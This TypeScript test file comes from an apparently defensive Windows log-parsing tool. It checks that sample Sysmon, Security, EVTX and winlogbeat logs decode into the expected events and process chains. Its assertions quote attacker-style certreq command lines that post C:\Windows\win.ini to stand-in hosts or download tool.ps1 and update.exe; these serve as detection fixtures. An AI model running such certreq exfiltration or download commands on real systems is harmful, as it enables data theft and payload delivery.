/** The bundled sample logs (README quick start) decode as intended: every dialect, the certreq cases, one bad line. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { collect, repoRoot } from './helpers.js';
import { decodeFile, expandInputs, type InputFile } from '../../src/formats/index.js';
import { formatDecodeError } from '../../src/model/event.js';
import { toProcessEvent } from '../../src/model/toProcess.js';

test('samples/: five dialects, 39 events, 30 process events, one malformed line reported', async () => {
  const files: InputFile[] = [];
  for await (const item of expandInputs([join(repoRoot, 'samples')])) {
    assert.ok(!('error' in item));
    files.push(item);
  }
  const names = files.map((f) => f.path.slice(f.path.lastIndexOf('/') + 1));
  assert.deepEqual(names, ['evtx-dump-ws04.jsonl.gz', 'security-ws03.xml', 'sysmon-ws01.xml', 'sysmon-ws05.evtx', 'winlogbeat-ws02.ndjson']);
  const perFile = new Map<string, { events: number; dialects: Set<string> }>();
  const processEvents = [];
  const errors: string[] = [];
  for (const file of files) {
    const { events, errors: errs } = await collect(decodeFile(file));
    errors.push(...errs.map((e) => formatDecodeError(e).slice(file.path.lastIndexOf('/') + 1)));
    perFile.set(file.path.slice(file.path.lastIndexOf('/') + 1), { events: events.length, dialects: new Set(events.map((e) => e.origin.dialect ?? '')) });
    for (const ev of events) {
      const pe = toProcessEvent(ev);
      if (pe) processEvents.push(pe);
    }
  }
  assert.deepEqual(errors, ['winlogbeat-ws02.ndjson:3: incomplete JSON document (a new one starts at line 4)']);
  assert.deepEqual(
    [...perFile].map(([name, v]) => [name, v.events, [...v.dialects]]),
    [
      ['evtx-dump-ws04.jsonl.gz', 3, ['evtx_dump']],
      ['security-ws03.xml', 5, ['xml']],
      ['sysmon-ws01.xml', 10, ['xml']],
      ['sysmon-ws05.evtx', 17, ['evtx']],
      ['winlogbeat-ws02.ndjson', 4, ['winlogbeat']],
    ],
  );
  assert.equal(processEvents.length, 30);
  const certreqStarts = processEvents.filter((p) => p.kind === 'start' && (/certreq/i.test(p.process.pe?.original_file_name ?? '') || /certreq/i.test(p.process.name ?? '')));
  assert.deepEqual(
    certreqStarts.map((p) => [p.host.name, p.process.name, p.process.command_line]),
    [
      ['WS04.corp.example', 'certreq.exe', 'CertReq.exe -Post -config https://files.attacker.example/tool.ps1 C:\\Windows\\win.ini C:\\ProgramData\\tool.ps1'],
      ['WS03.corp.example', 'certreq.exe', 'certreq -Post -config https://attacker.example/ c:\\windows\\win.ini out.txt'],
      ['WS03.corp.example', 'certreq.exe', 'certreq -retrieve -config CA01\\Corp-CA 42 dave.cer'],
      ['WS01.corp.example', 'certreq.exe', 'certreq -Post -config https://attacker.example/ c:\\windows\\win.ini out.txt'],
      ['WS01.corp.example', 'cr.exe', 'cr.exe -Post -config https://attacker.example/stage c:\\windows\\win.ini C:\\Users\\Public\\stage.txt'],
      ['SRV-ADM01.corp.example', 'certreq.exe', 'certreq -submit -config "CA01\\Corp-CA" req.csr'],
      ['WS05.corp.example', 'certreq.exe', 'certreq.exe -Post -config https://files.example-cdn.net/upload C:\\Windows\\win.ini C:\\Users\\Public\\resp.txt'],
      ['WS05.corp.example', 'certreq.exe', 'certreq -Post -config http://files.example-cdn.net/p.bin C:\\Windows\\win.ini C:\\Users\\Public\\update.exe'],
      ['WS05.corp.example', 'certreq.exe', 'certreq.exe -submit -config "CA01.corp.example\\Corp Issuing CA" C:\\PKI\\web01.req C:\\PKI\\web01.cer'],
      ['WS02.corp.example', 'certreq.exe', 'certreq.exe -Post -config http://198.51.100.7:8080/upload C:\\Windows\\win.ini resp.txt'],
    ],
  );
  // Parent chain on WS01: explorer → cmd → certreq, and the certreq process ends (Sysmon 5) with the same entity id.
  const ws01 = processEvents.filter((p) => p.host.name === 'WS01.corp.example');
  const certreq = ws01.find((p) => p.kind === 'start' && p.process.name === 'certreq.exe')!;
  const cmd = ws01.find((p) => p.kind === 'start' && p.process.entity_id === certreq.process.parent?.entity_id)!;
  assert.equal(cmd.process.name, 'cmd.exe');
  assert.equal(cmd.process.parent?.name, 'explorer.exe');
  assert.ok(ws01.some((p) => p.kind === 'end' && p.process.entity_id === certreq.process.entity_id));
  assert.equal(certreq.process.pe?.original_file_name, 'CertReq.exe');
});
